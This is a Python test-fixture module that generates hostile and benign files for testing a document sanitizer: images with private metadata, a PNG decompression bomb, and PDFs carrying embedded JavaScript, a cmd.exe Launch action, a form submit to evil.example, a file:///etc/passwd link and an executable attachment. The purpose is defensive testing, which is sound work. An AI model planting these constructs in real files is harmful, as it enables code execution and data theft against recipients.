"""Files for tests, made on the spot: hostile ones, and honest ones beside them."""

import io
import struct
import zipfile
import zlib

import openpyxl
import pikepdf
from pikepdf import Array, Dictionary, Name, String
from PIL import Image, PngImagePlugin

SECRET = "Autora Secreta"


def image_bytes(form="JPEG", size=(60, 40), mode="RGB", **options) -> bytes:
    stream = io.BytesIO()
    Image.new(mode, size, (200, 30, 30) if mode == "RGB" else None).save(stream, form, **options)
    return stream.getvalue()


def xlsx_bytes(rows) -> bytes:
    """A workbook as honest programs write it, with these rows of cells."""
    book = openpyxl.Workbook()
    for row in rows:
        book.active.append(row)
    stream = io.BytesIO()
    book.save(stream)
    return stream.getvalue()


def photograph(orientation: int | None = None) -> bytes:
    """A JPEG of 60 × 40 with a camera, a place and a comment."""
    exif = Image.Exif()
    exif[0x010F] = "CamaraSecreta"
    if orientation:
        exif[0x0112] = orientation
    exif.get_ifd(0x8825)[1] = "N"
    exif.get_ifd(0x8825)[2] = (19.0, 25.0, 57.0)
    return image_bytes(exif=exif, comment=SECRET.encode())


def png_with_text() -> bytes:
    text = PngImagePlugin.PngInfo()
    text.add_text("Author", SECRET)
    return image_bytes("PNG", pnginfo=text)


def png_claiming(width: int, height: int) -> bytes:
    """A PNG of a few bytes whose header claims any size: a decompression bomb."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    pixels = zlib.compress(b"\0" * 1000)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", pixels) + chunk(b"IEND", b"")


def zip_bytes() -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w") as archive:
        archive.writestr("payload.html", "<script>alert(1)</script>")
    return stream.getvalue()


def pdf_bytes(change=None, pages=1, **save) -> bytes:
    """A PDF with an author; ``change(pdf)`` makes it hostile."""
    pdf = pikepdf.new()
    for _ in range(pages):
        pdf.add_blank_page(page_size=(200, 200))
    pdf.docinfo["/Author"] = SECRET
    with pdf.open_metadata() as metadata:
        metadata["dc:creator"] = [SECRET]
    if change:
        change(pdf)
    stream = io.BytesIO()
    pdf.save(stream, **save)
    return stream.getvalue()


def script() -> Dictionary:
    return Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))


def script_in_names_tree(pdf):
    tree = Dictionary(Names=Array([String("init"), pdf.make_indirect(script())]))
    pdf.Root.Names = Dictionary(JavaScript=tree)


def script_on_opening(pdf):
    pdf.Root.OpenAction = script()


def script_of_page(pdf):
    pdf.pages[0].obj.AA = Dictionary(O=script())


def annotation(subtype, **keys) -> Dictionary:
    return Dictionary(Type=Name.Annot, Subtype=subtype, Rect=Array([0, 0, 50, 50]), **keys)


def annotate(**keys):
    def change(pdf):
        pdf.pages[0].obj.Annots = Array([annotation(**keys)])

    return change


script_of_annotation = annotate(subtype=Name.Link, A=script())
launch = annotate(subtype=Name.Link, A=Dictionary(S=Name.Launch, F=String("cmd.exe")))
submit = annotate(subtype=Name.Link, A=Dictionary(S=Name.SubmitForm, F=String("https://evil.example")))
script_link = annotate(subtype=Name.Link, A=Dictionary(S=Name.URI, URI=String("javascript:alert(1)")))
web_link = annotate(subtype=Name.Link, A=Dictionary(S=Name.URI, URI=String("https://www.gob.mx/ley")))
file_link = annotate(subtype=Name.Link, A=Dictionary(S=Name.URI, URI=String("file:///etc/passwd")))
rich_media = annotate(subtype=Name.RichMedia)
comment = annotate(subtype=Name.Text, T=String(SECRET), Contents=String("visible"), M=String("D:20250101"))


def script_after_an_action(pdf):
    following = Dictionary(S=Name.GoTo, D=Array([]), Next=Array([script()]))
    pdf.pages[0].obj.Annots = Array([annotation(subtype=Name.Link, A=following)])


def attachment(pdf):
    pdf.attachments["virus.exe"] = b"MZ"


def dynamic_form(pdf):
    pdf.Root.AcroForm = Dictionary(Fields=Array([]), XFA=pdf.make_stream(b"<xdp/>"))


def signature(pdf):
    value = Dictionary(Type=Name.Sig, Filter=Name("/Adobe.PPKLite"), Contents=String("x"))
    field = pdf.make_indirect(Dictionary(FT=Name.Sig, T=String("firma"), V=pdf.make_indirect(value)))
    pdf.Root.AcroForm = Dictionary(Fields=Array([field]), SigFlags=3)


def deep(pdf):
    nested = Array([])
    for _ in range(200):
        nested = Array([nested])
    pdf.Root.Deep = nested


def opens_at_a_page(pdf):
    pdf.Root.OpenAction = Array([pdf.pages[0].obj, Name.Fit])
    pdf.pages[0].obj.Thumb = pdf.make_stream(b"\0", Width=1, Height=1)
    pdf.pages[0].obj.PieceInfo = Dictionary(App=Dictionary(Private=String(SECRET)))


def with_photograph(pdf):
    photo = pdf.make_stream(
        photograph(),
        Type=Name.XObject,
        Subtype=Name.Image,
        Width=60,
        Height=40,
        ColorSpace=Name.DeviceRGB,
        BitsPerComponent=8,
    )
    photo.Filter = Name.DCTDecode
    pdf.pages[0].obj.Resources = Dictionary(XObject=Dictionary(Im0=photo))
